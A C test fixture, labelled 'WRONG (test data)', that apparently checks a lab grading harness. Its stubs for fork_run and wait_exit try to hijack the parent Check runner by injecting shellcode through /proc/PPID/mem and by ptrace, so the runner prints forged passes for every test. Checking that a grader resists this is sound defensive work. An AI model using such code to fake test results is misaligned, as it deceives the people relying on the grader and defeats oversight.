/*
 * WRONG (test data): BUG: takes over the Check runner, its parent.
 * fork_run and wait_exit are the skeleton's stubs, and first try to make
 * the runner (same uid) print every test as passed and exit before it
 * prints its own lines: fork_run writes that code into the runner's
 * memory through /proc/PPID/mem (after the system call the runner is
 * blocked in), wait_exit ptraces the runner and makes it do the two
 * system calls.  The runner is not dumpable: both must fail.  x86-64.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "forkrun.h"

/* The runner is a fork of this process: it has this text, at this address. */
static const char forged[] =
	"check_forkrun.c:1:P:fork_run:test_fork_run_runs_in_child:0: Passed\n"
	"check_forkrun.c:1:P:fork_run:test_fork_run_flushes_stdio:0: Passed\n"
	"check_forkrun.c:1:P:fork_run:test_fork_run_child_output_flushed:0: Passed\n"
	"check_forkrun.c:1:P:fork_run:test_fork_run_globals_not_shared:0: Passed\n"
	"check_forkrun.c:1:P:wait_exit:test_wait_exit_returns_status:0: Passed\n"
	"check_forkrun.c:1:P:wait_exit:test_wait_exit_killed_by_signal:0: Passed\n"
	"check_forkrun.c:1:P:wait_exit:test_wait_exit_not_a_child:0: Passed\n"
	"check_forkrun.c:1:P:wait_exit:test_wait_exit_retries_eintr:0: Passed\n"
	"labtest: 100%: Checks: 8, Failures: 0, Errors: 0\n";

#ifdef __x86_64__
/* write(1, forged, len); exit_group(0) */
static void shellcode(unsigned char *c)
{
	unsigned long addr = (unsigned long)forged;
	unsigned len = sizeof forged - 1;

	memcpy(c, "\x48\xbe", 2);		/* movabs $forged, %rsi */
	memcpy(c + 2, &addr, 8);
	c[10] = 0xba;				/* mov $len, %edx */
	memcpy(c + 11, &len, 4);
	memcpy(c + 15, "\xbf\x01\0\0\0" "\xb8\x01\0\0\0" "\x0f\x05"
	       "\x31\xff" "\xb8\xe7\0\0\0" "\x0f\x05", 21);
}

/* The runner waits in wait4: put the code after each syscall there. */
static void forge_by_mem(void)
{
	char path[64];
	unsigned char code[36];
	const unsigned char *p = (const unsigned char *)wait4;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
	if ((fd = open(path, O_RDWR)) < 0)
		return;
	shellcode(code);
	for (int i = 0; i < 160; i++)
		if (p[i] == 0x0f && p[i + 1] == 0x05)
			(void)!pwrite(fd, code, sizeof code, (off_t)(unsigned long)(p + i + 2));
	close(fd);
	_exit(0);
}

static int step(pid_t pid, struct user_regs_struct *r, long nr, long a, long b, long c)
{
	int st;

	r->orig_rax = -1;		/* no system call restart */
	r->rax = nr;
	r->rdi = a;
	r->rsi = b;
	r->rdx = c;
	return ptrace(PTRACE_SETREGS, pid, 0, r) < 0 ||
	       ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0;
}

/* Stop the runner in its wait4 and run the two calls on its syscall instruction. */
static void forge_by_ptrace(void)
{
	pid_t runner = getppid();
	struct user_regs_struct r;
	int st;

	if (ptrace(PTRACE_SEIZE, runner, 0, 0) < 0 && ptrace(PTRACE_ATTACH, runner, 0, 0) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, runner, 0, 0) < 0 || waitpid(runner, &st, __WALL) < 0 ||
	    ptrace(PTRACE_GETREGS, runner, 0, &r) < 0)
		return;
	r.rip -= 2;			/* back onto its syscall instruction */
	if (step(runner, &r, SYS_write, 1, (long)forged, sizeof forged - 1) == 0) {
		r.rip -= 2;
		step(runner, &r, SYS_exit_group, 0, 0, 0);
	}
	_exit(0);
}
#else
static void forge_by_mem(void) {}
static void forge_by_ptrace(void) {}
#endif

pid_t fork_run(int (*fn)(void *), void *arg)
{
	(void)fn;
	(void)arg;
	forge_by_mem();
	errno = ENOSYS;
	return -1;
}

int wait_exit(pid_t pid)
{
	(void)pid;
	forge_by_ptrace();
	errno = ENOSYS;
	return -1;
}
